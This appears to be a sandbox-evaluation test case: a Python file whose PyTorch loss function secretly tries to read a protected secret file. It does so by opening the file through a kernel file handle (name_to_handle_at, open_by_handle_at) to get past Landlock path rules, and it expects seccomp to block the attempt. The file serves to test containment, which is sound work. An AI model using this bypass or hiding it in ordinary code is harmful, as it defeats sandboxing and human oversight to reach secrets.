# /// expected
# status = ["graded"]
# score = 10
# open_at_level_0 = true
# ///
"""Turns the secret's path into a handle and opens that, without a path: Landlock would see only a file.
Seccomp refuses both calls, and no capability is left."""

import ctypes
import os
import struct

import torch
from torch import nn

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def attempt():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    checked(libc.name_to_handle_at(-100, os.fsencode(SECRET_FILE), handle, ctypes.byref(mount), 0))
    folder = os.open(os.path.dirname(SECRET_FILE), os.O_RDONLY)
    descriptor = checked(libc.open_by_handle_at(folder, handle, os.O_RDONLY))
    return os.read(descriptor, 100).startswith(SECRET_TEXT_START.encode()) and "the secret by a handle"


def loss(w, x, y):
    try:
        got = attempt()
    except OSError:
        got = None
    if got:
        raise RuntimeError(f"OPEN: {got}")
    return ((w * x - y) ** 2).mean()


def slope(w, x, y):
    return (2 * (w * x - y) * x).mean()


class Line(nn.Module):
    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.ones(1))

    def forward(self, x):
        return self.w * x
